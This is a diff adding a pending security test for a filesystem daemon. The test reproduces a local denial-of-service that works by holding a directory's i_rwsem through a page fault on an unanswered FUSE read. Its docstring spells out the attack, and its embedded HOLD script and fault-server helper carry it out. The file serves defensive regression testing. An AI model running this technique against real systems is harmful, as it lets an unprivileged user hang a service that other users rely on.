@@ -1,0 +1,163 @@
+# SPDX-License-Identifier: GPL-2.0-or-later
+"""Red team of 7c4b449 (fs/submount.c): the daemon's threads held forever
+without any mount below SRC. NOT FIXED: kept in pending/, out of the
+suite, until it is (tests/security/pending/README.md).
+
+7c4b449 stops the daemon from *sending a request* to a FUSE server another
+user mounted below SRC. But a host user who can merely read a directory
+below SRC can make the daemon's threads wait forever on a *kernel lock*
+instead, with a FUSE server mounted anywhere (its own /tmp directory, no
+allow_other, no user_allow_other):
+
+- fault_fuse.c serves a file f whose READ is never answered;
+- the attacker mmap()s f and passes the mapping as the buffer of
+  getdents64() on SRC/d: iterate_dir() takes d's i_rwsem (shared), filldir
+  copies the first entry to the buffer, the copy faults, the fault waits on
+  the READ forever: d's i_rwsem stays held (shared) for good;
+- a mkdir SRC/d/x of the attacker's queues as a writer on that rwsem
+  (filename_create() locks the parent before any permission check, so no
+  write permission is needed) and, after the rwsem's handoff, every new
+  reader queues behind it;
+- from then on every daemon LOOKUP of a name not in the dcache of d
+  (openat() -> lookup_slow() -> inode_lock_shared()) waits forever: one
+  thread per request, and daemon_threads() such requests by *anyone* (here
+  another user, shiftfs-victim; the attacker never touches the mount) hang
+  the whole mount.
+
+Nothing is mounted below SRC, so sfs_submount_check() never runs."""
+import os
+import shutil
+import signal
+import subprocess
+import sys
+import time
+
+# pending/: not in the suite (it fails until the hole is fixed); the
+# helpers are the security suite's.
+sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(
+    __file__))))
+from attack import (ATTACKER, VICTIM, daemon_threads, descendant, gid_of,
+                    read_through, uid_of)
+from conftest import Mount, mountinfo, need, need_root_and_fuse
+from fs_util import scratch_fixture
+from test_loop_redteam_lockhold import daemon_stacks, kill_wait, spawn
+
+HERE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+
+FIXTURES = (scratch_fixture,)
+
+HOLD = r"""
+import ctypes, mmap, os, sys, time
+libc = ctypes.CDLL(None, use_errno=True)
+SYS_getdents64 = 217  # x86_64
+f, dirs = sys.argv[1], sys.argv[2:]
+fd = os.open(f, os.O_RDONLY)
+m = mmap.mmap(fd, 65536, mmap.MAP_PRIVATE,
+              mmap.PROT_READ | mmap.PROT_WRITE)
+addr = ctypes.addressof(ctypes.c_char.from_buffer(m))
+for d in dirs:
+    if os.fork() == 0:
+        dfd = os.open(d, os.O_RDONLY | os.O_DIRECTORY)
+        r = libc.syscall(SYS_getdents64, dfd, ctypes.c_void_p(addr), 4096)
+        os.write(2, b"getdents returned %d errno %d\n" %
+                 (r, ctypes.get_errno()))
+        os._exit(0)
+print("holding", flush=True)
+time.sleep(60)
+"""
+
+
+class FaultServer:
+    """fault_fuse (tests/security/fault_fuse.c) mounted by user on a
+    directory of its own outside SRC, without allow_other."""
+
+    def __init__(self, s, user=ATTACKER):
+        need(shutil.which("cc") is not None, "needs a C compiler")
+        flags = subprocess.run(["pkg-config", "--cflags", "--libs",
+                                "fuse3"], capture_output=True, text=True)
+        need(flags.returncode == 0, "needs libfuse3-dev: " + flags.stderr)
+        self.bin = s.p("fault_fuse")
+        subprocess.run(["cc", "-o", self.bin,
+                        os.path.join(HERE, "fault_fuse.c")] +
+                       flags.stdout.split(), check=True)
+        os.chmod(self.bin, 0o755)
+        self.path = s.p("atkfuse")
+        os.mkdir(self.path)
+        os.chown(self.path, uid_of(user), gid_of(user))
+        self.proc = subprocess.Popen(
+            ["runuser", "-u", user, "--", self.bin, "-f", self.path],
+            cwd="/", stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        end = time.monotonic() + 5
+        while not [f for f in mountinfo() if f[4] == self.path]:
+            assert self.proc.poll() is None and time.monotonic() < end
+            time.sleep(0.02)
+        self.pid = descendant(self.proc.pid, "fault_fuse")
+
+    def close(self):
+        if self.pid:
+            try:
+                os.kill(self.pid, signal.SIGKILL)
+            except ProcessLookupError:
+                pass
+        try:
+            self.proc.wait(timeout=10)
+        except subprocess.TimeoutExpired:
+            self.proc.kill()
+        subprocess.run(["umount", "-l", self.path], capture_output=True)
+
+
+def test_a_directory_lock_held_through_a_fuse_page_fault_hangs_no_thread(
+        scratch):
+    """One directory held per thread (the kernel sends one LOOKUP at a
+    time per directory of the mount, so a single held directory costs one
+    thread, and hangs every lookup of a new name in it for everyone)."""
+    need_root_and_fuse()
+    s = scratch
+    n = daemon_threads() + 1
+    dirs = []
+    for i in range(n):
+        d = os.path.join(s.src, "pub%d" % i)  # root's, 0755: readable
+        os.mkdir(d)
+        os.chmod(d, 0o755)
+        with open(os.path.join(d, "file"), "w") as f:
+            f.write("x\n")
+        dirs.append(d)
+    ok = os.path.join(s.src, "ok")
+    os.mkdir(ok)
+    with open(os.path.join(ok, "fresh"), "w") as f:
+        f.write("victim's data\n")
+    m = Mount(s.src, s.mnt, "identity")
+    server = FaultServer(s)
+    procs = []
+    try:
+        holder = spawn(ATTACKER, ["python3", "-c", HOLD,
+                                  os.path.join(server.path, "f")] + dirs)
+        procs.append(holder)
+        assert holder.stdout.readline().strip() == "holding"
+        time.sleep(0.5)
+        # The writers that make every later reader queue (no write
+        # permission on pub<i> needed: the lock is taken first).
+        for d in dirs:
+            procs.append(spawn(ATTACKER, ["mkdir", os.path.join(d, "x")]))
+        time.sleep(0.5)
+        # Other users' ordinary lookups through the mount.
+        victims = [spawn(VICTIM, ["stat", os.path.join(
+            s.mnt, "pub%d" % i, "new%d" % i)])
+            for i in range(n)]
+        procs += victims
+        time.sleep(2)
+        stuck = [p for p in victims if p.poll() is None]
+        done, out = read_through(os.path.join(s.mnt, "ok", "fresh"), 5)
+        info = "victims stuck: %d/%d; daemon threads: %s" % (
+            len(stuck), n, daemon_stacks(m.proc.pid))
+        assert done, (
+            "another user's read through the mount hangs: every daemon "
+            "thread waits on an i_rwsem of SRC that shiftfs-atk holds "
+            "through a page fault on its own FUSE server (" + info + ")")
+        assert out == "victim's data\n"
+    finally:
+        # SIGKILL of the server fails the fault: the locks go, the daemon's
+        # threads come back, every process ends.
+        server.close()
+        kill_wait(procs)
+        m.stop(check_log=False)
